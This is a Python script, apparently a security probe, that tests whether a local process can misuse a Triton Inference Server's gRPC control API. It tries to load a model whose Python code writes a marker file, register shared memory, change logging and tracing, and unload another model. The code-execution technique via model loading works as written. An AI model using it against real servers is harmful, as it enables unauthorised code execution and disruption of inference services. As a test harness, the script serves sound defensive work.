"""What a local process may try on a Triton: `python triton_attack.py USER MARKER ADDRESS...`.

Becomes the user with that number first, which may not be able to read this environment. Prints
{address: {attempt: status}} as JSON. Code that Triton is made to run writes the file MARKER.
"""

import json
import os
import sys
from collections.abc import Callable

import grpc
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub

CODE = """
import triton_python_backend_utils as pb
class TritonPythonModel:
    def initialize(self, args):
        open({marker!r}, "w").close()
    def execute(self, requests):
        return []
"""
CONFIG = json.dumps(
    {
        "name": "evil",
        "backend": "python",
        "input": [{"name": "x", "data_type": "TYPE_FP32", "dims": [1]}],
        "output": [{"name": "y", "data_type": "TYPE_FP32", "dims": [1]}],
        "instance_group": [{"count": 1}],
    }
)


def attempts(address: str, marker: str) -> dict[str, str]:
    """Each attempt's status on one address: OK, or why not."""
    with grpc.insecure_channel(address) as channel:
        stub = GRPCInferenceServiceStub(channel)
        load = pb.RepositoryModelLoadRequest(model_name="evil")
        load.parameters["config"].string_param = CONFIG
        load.parameters["file:1/model.py"].bytes_param = CODE.format(marker=marker).encode()
        trace, log = pb.TraceSettingRequest(), pb.LogSettingsRequest()
        trace.settings["trace_rate"].value.append("1")
        log.settings["log_info"].bool_param = True
        shared = pb.SystemSharedMemoryRegisterRequest(name="m", key="/evil", byte_size=8)
        unload = pb.RepositoryModelUnloadRequest(model_name="embedder_1")
        return {
            "load": _status(lambda: stub.RepositoryModelLoad(load, timeout=20)),
            "shared memory": _status(lambda: stub.SystemSharedMemoryRegister(shared, timeout=5)),
            "trace": _status(lambda: stub.TraceSetting(trace, timeout=5)),
            "log": _status(lambda: stub.LogSettings(log, timeout=5)),
            "index": _status(lambda: stub.RepositoryIndex(pb.RepositoryIndexRequest(), timeout=5)),
            "live": _status(lambda: stub.ServerLive(pb.ServerLiveRequest(), timeout=5)),
            "unload": _status(lambda: stub.RepositoryModelUnload(unload, timeout=5)),
        }


def _status(call: Callable[[], object]) -> str:
    try:
        call()
    except grpc.RpcError as error:
        return f"{error.code().name}: {error.details()}"
    return "OK"


if __name__ == "__main__":
    if (user := int(sys.argv[1])) != os.getuid():
        # gRPC imports a part of itself with the first channel; afterwards it cannot be read here.
        grpc.insecure_channel("127.0.0.1:1").close()
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
    found = {address: attempts(address, sys.argv[2]) for address in sys.argv[3:]}
    print(json.dumps(found))
